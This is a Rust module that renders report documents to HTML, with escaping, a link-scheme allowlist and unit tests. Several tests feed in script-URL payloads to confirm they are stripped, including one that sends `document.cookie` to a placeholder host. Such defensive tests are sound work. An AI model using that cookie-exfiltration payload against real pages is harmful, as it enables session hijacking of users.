//! HTML serialization for on-screen display.

use std::fmt::Write;

use super::style::{StyleTable, TextStyle, style_table};
use super::tree::{Element, PrintFrame, RenderedDocument, StyledSpan, TableRowElement};
use super::Profile;

/// Serialize a rendered document to a standalone HTML page.
///
/// Styles come from the profile's style table and are emitted as one
/// `<style>` block; highlighted code spans carry their color inline.
pub fn to_html(document: &RenderedDocument) -> String {
    let _scope = crate::perf::scope("render.html");
    let table = style_table(document.profile());
    let title = document
        .frame()
        .map_or("Report", |frame| frame.title.as_str());

    let mut out = String::with_capacity(4096);
    out.push_str("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n");
    let _ = writeln!(out, "<title>{}</title>", escape_html(title));
    let _ = writeln!(out, "<style>\n{}</style>", stylesheet(document, table));
    out.push_str("</head>\n");
    let _ = writeln!(out, "<body class=\"{}\">", profile_class(document.profile()));
    out.push_str("<main class=\"report\">\n");

    if let Some(frame) = document.frame() {
        write_header(&mut out, frame);
    }
    for element in document.elements() {
        write_element(&mut out, element);
    }
    if let Some(frame) = document.frame() {
        let _ = writeln!(
            out,
            "<footer class=\"report-footer\">{}</footer>",
            escape_html(&frame.copyright)
        );
    }

    out.push_str("</main>\n</body>\n</html>\n");
    out
}

const fn profile_class(profile: Profile) -> &'static str {
    match profile {
        Profile::Interactive => "profile-interactive",
        Profile::Print => "profile-print",
    }
}

fn css_text(selector: &str, style: &TextStyle) -> String {
    format!(
        "{selector} {{ font-family: {}; font-size: {}px; line-height: {}px; color: {}; \
         font-weight: {}; font-style: {}; margin: {}px 0 {}px; }}\n",
        style.font.css_stack(),
        style.size,
        style.line_height,
        style.color.hex(),
        if style.bold { 700 } else { 400 },
        if style.italic { "italic" } else { "normal" },
        style.margin_top,
        style.margin_bottom,
    )
}

fn stylesheet(document: &RenderedDocument, table: &StyleTable) -> String {
    let panel = table.code_panel(document.code_theme());
    let mut css = String::new();
    let _ = writeln!(
        css,
        "body {{ background: {}; margin: 0; }}",
        table.page_background.hex()
    );
    let _ = writeln!(
        css,
        ".report {{ max-width: 800px; margin: 0 auto; padding: {}px; }}",
        table.page_padding
    );
    for (index, heading) in table.headings.iter().enumerate() {
        css.push_str(&css_text(&format!("h{}", index + 1), heading));
    }
    css.push_str(&css_text("p", &table.paragraph));
    css.push_str(&css_text("li", &table.list_item));
    let _ = writeln!(css, "ul, ol {{ padding-left: {}px; }}", table.list_indent);
    css.push_str(&css_text("blockquote", &table.blockquote));
    let _ = writeln!(
        css,
        "blockquote {{ border-left: 4px solid {}; padding-left: 12px; }}",
        table.blockquote_bar.hex()
    );
    css.push_str(&css_text("pre", &table.code));
    let _ = writeln!(
        css,
        "pre {{ background: {}; color: {}; padding: {}px; border-radius: 6px; overflow-x: auto; }}",
        panel.background.hex(),
        panel.text.hex(),
        table.code_padding
    );
    let _ = writeln!(
        css,
        "code {{ font-family: {}; }}\n:not(pre) > code {{ background: {}; padding: 1px 4px; border-radius: 3px; }}",
        table.code.font.css_stack(),
        table.inline_code_background.hex()
    );
    let _ = writeln!(css, "a {{ color: {}; }}", table.link.hex());
    let _ = writeln!(
        css,
        "hr {{ border: 0; border-top: 1px solid {}; margin: 16px 0; }}",
        table.rule.hex()
    );
    css.push_str(&css_text("table", &table.table));
    let _ = writeln!(
        css,
        "table {{ border-collapse: collapse; width: 100%; }}\n\
         td, th {{ border: 1px solid {}; padding: 6px 10px; text-align: left; }}\n\
         th {{ background: {}; }}",
        table.table_border.hex(),
        table.table_header_background.hex()
    );
    let _ = writeln!(
        css,
        "figure {{ margin: 12px 0; }} figcaption {{ color: {}; font-size: 12px; }}",
        table.image_placeholder.hex()
    );
    css.push_str(&css_text(".report-header h1", &table.header_title));
    css.push_str(&css_text(".report-meta", &table.header_meta));
    css.push_str(&css_text(".report-footer", &table.footer));
    css
}

fn write_header(out: &mut String, frame: &PrintFrame) {
    out.push_str("<header class=\"report-header\">\n");
    let _ = writeln!(out, "<h1>{}</h1>", escape_html(&frame.title));
    let _ = writeln!(
        out,
        "<p class=\"report-meta\">{}</p>",
        escape_html(&frame.generated_at)
    );
    out.push_str("</header>\n<hr>\n");
}

fn write_element(out: &mut String, element: &Element) {
    match element {
        Element::Heading { level, spans } => {
            let level = (*level).clamp(1, 6);
            let _ = writeln!(out, "<h{level}>{}</h{level}>", spans_html(spans));
        }
        Element::Paragraph(spans) => {
            let _ = writeln!(out, "<p>{}</p>", spans_html(spans));
        }
        Element::List { ordered, items } => {
            let tag = if *ordered { "ol" } else { "ul" };
            let _ = writeln!(out, "<{tag}>");
            for item in items {
                let _ = writeln!(out, "<li>{}</li>", spans_html(item));
            }
            let _ = writeln!(out, "</{tag}>");
        }
        Element::Code(code) => {
            let language = code.language.as_deref().unwrap_or("text");
            let _ = write!(
                out,
                "<pre data-language=\"{}\"><code>",
                escape_html(language)
            );
            for (index, line) in code.lines.iter().enumerate() {
                if index > 0 {
                    out.push('\n');
                }
                out.push_str(&spans_html(line));
            }
            out.push_str("</code></pre>\n");
        }
        Element::Blockquote(spans) => {
            let _ = writeln!(out, "<blockquote>{}</blockquote>", spans_html(spans));
        }
        Element::Rule => out.push_str("<hr>\n"),
        Element::Table(rows) => write_table(out, rows),
        Element::Image { alt, url } if is_safe_url(url) => {
            let _ = writeln!(
                out,
                "<figure><img src=\"{}\" alt=\"{}\"><figcaption>{}</figcaption></figure>",
                escape_html(url),
                escape_html(alt),
                escape_html(alt)
            );
        }
        Element::Image { alt, .. } => {
            let _ = writeln!(
                out,
                "<figure><figcaption>[image: {}]</figcaption></figure>",
                escape_html(alt)
            );
        }
    }
}

fn write_table(out: &mut String, rows: &[TableRowElement]) {
    out.push_str("<table>\n");
    for row in rows {
        let cell_tag = if row.is_header { "th" } else { "td" };
        out.push_str("<tr>");
        for cell in &row.cells {
            let _ = write!(out, "<{cell_tag}>{}</{cell_tag}>", spans_html(cell));
        }
        out.push_str("</tr>\n");
    }
    out.push_str("</table>\n");
}

fn spans_html(spans: &[StyledSpan]) -> String {
    let mut out = String::new();
    for span in spans {
        let style = span.style();
        let mut html = escape_html(span.text());
        if let Some(fg) = style.fg {
            html = format!("<span style=\"color:{}\">{html}</span>", fg.hex());
        } else if style.code {
            html = format!("<code>{html}</code>");
        }
        if style.emphasis {
            html = format!("<em>{html}</em>");
        }
        if style.strong {
            html = format!("<strong>{html}</strong>");
        }
        if let Some(url) = style.link.as_deref().filter(|url| is_safe_url(url)) {
            html = format!("<a href=\"{}\">{html}</a>", escape_html(url));
        }
        out.push_str(&html);
    }
    out
}

/// Escape text for HTML element content and attribute values.
///
/// Characters XML 1.0 does not allow become U+FFFD, so the result is also
/// safe inside the export SVG.
pub fn escape_html(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for ch in text.chars() {
        match ch {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            _ if !is_xml_char(ch) => out.push(char::REPLACEMENT_CHARACTER),
            _ => out.push(ch),
        }
    }
    out
}

const fn is_xml_char(ch: char) -> bool {
    matches!(
        ch,
        '\t' | '\n' | '\r' | '\u{20}'..='\u{fffd}' | '\u{10000}'..='\u{10ffff}'
    )
}

/// Whether a link or image url may be emitted as an attribute.
///
/// Relative urls, fragments and `http`, `https` and `mailto` are allowed;
/// any other scheme (`javascript:`, `data:`, ...) is not.
pub fn is_safe_url(url: &str) -> bool {
    let url = url.trim();
    let scheme_end = url.find(|c: char| matches!(c, ':' | '/' | '?' | '#'));
    match scheme_end {
        Some(end) if url[end..].starts_with(':') => {
            let scheme = &url[..end];
            ["http", "https", "mailto"]
                .iter()
                .any(|allowed| scheme.eq_ignore_ascii_case(allowed))
        }
        _ => true,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::highlight::{HighlightBackground, Highlighter};
    use crate::markdown;
    use crate::render::render;

    fn html_for(md: &str, profile: Profile) -> String {
        to_html(&render(markdown::parse(md), profile))
    }

    #[test]
    fn test_inline_code_keeps_literal_markers() {
        let html = html_for("`**not bold**`", Profile::Interactive);
        assert!(html.contains("<p><code>**not bold**</code></p>"));
        assert!(!html.contains("<strong>"));
    }

    #[test]
    fn test_list_containers() {
        let html = html_for("- a\n- b\n- c\n\ntext\n\n1. x", Profile::Interactive);
        assert_eq!(html.matches("<ul>").count(), 1);
        assert_eq!(html.matches("<ol>").count(), 1);
        assert_eq!(html.matches("<li>").count(), 4);
    }

    #[test]
    fn test_print_has_header_rule_and_footer() {
        let html = html_for("# Ridership", Profile::Print);
        let header = html.find("<header class=\"report-header\">").expect("header");
        let rule = html.find("<hr>").expect("rule");
        let footer = html.find("report-footer\">©").expect("footer");
        assert!(header < rule && rule < footer);
        assert!(html.contains("profile-print"));
    }

    #[test]
    fn test_interactive_has_no_frame() {
        let html = html_for("# Ridership", Profile::Interactive);
        assert!(!html.contains("<header"));
        assert!(!html.contains("<footer"));
    }

    #[test]
    fn test_text_is_escaped() {
        let html = html_for("a <b> & \"c\"", Profile::Interactive);
        assert!(html.contains("a &lt;b&gt; &amp; &quot;c&quot;"));
    }

    #[test]
    fn test_highlighted_code_emits_colored_spans() {
        let mut doc = render(
            markdown::parse("```rust\nfn main() {}\n```"),
            Profile::Interactive,
        );
        doc.upgrade_code(0, &Highlighter::shared(HighlightBackground::Dark));
        let html = to_html(&doc);
        assert!(html.contains("data-language=\"rust\""));
        assert!(html.contains("<span style=\"color:#"));
    }

    #[test]
    fn test_link_and_emphasis() {
        let html = html_for("**[Depot](https://d.example)** and *late*", Profile::Interactive);
        assert!(html.contains("<a href=\"https://d.example\"><strong>Depot</strong></a>"));
        assert!(html.contains("<em>late</em>"));
    }

    #[test]
    fn test_table_header_cells() {
        let html = html_for("| Route | Trips |\n|---|---|\n| 7 | 31 |", Profile::Print);
        assert!(html.contains("<th>Route</th>"));
        assert!(html.contains("<td>31</td>"));
    }

    #[test]
    fn test_xml_illegal_characters_are_replaced() {
        assert_eq!(escape_html("A\u{0c}B\0C\u{ffff}"), "A\u{fffd}B\u{fffd}C\u{fffd}");
        assert_eq!(escape_html("tab\there\nline"), "tab\there\nline");
        let html = html_for("Depot A\u{0c}Depot B", Profile::Interactive);
        assert!(html.contains("Depot A\u{fffd}Depot B"));
    }

    #[test]
    fn test_url_schemes() {
        assert!(is_safe_url("https://d.example/x"));
        assert!(is_safe_url("HTTP://d.example"));
        assert!(is_safe_url("mailto:ops@d.example"));
        assert!(is_safe_url("charts/ridership.png"));
        assert!(is_safe_url("#fleet"));
        assert!(is_safe_url("/reports?week=41:2"));
        assert!(!is_safe_url("javascript:alert(1)"));
        assert!(!is_safe_url(" JavaScript:alert(1)"));
        assert!(!is_safe_url("data:text/html,hi"));
        assert!(!is_safe_url("vbscript:x"));
    }

    #[test]
    fn test_script_links_render_as_plain_text() {
        let html = html_for(
            "[Open dashboard](javascript:location='//e.example/?'+document.cookie)",
            Profile::Interactive,
        );
        assert!(html.contains("<p>Open dashboard</p>"));
        assert!(!html.contains("javascript:"));
        assert!(!html.contains("<a "));
    }

    #[test]
    fn test_script_image_src_is_dropped() {
        let html = html_for("![chart](javascript:alert(1))", Profile::Interactive);
        assert!(!html.contains("<img"));
        assert!(html.contains("[image: chart]"));
    }
}
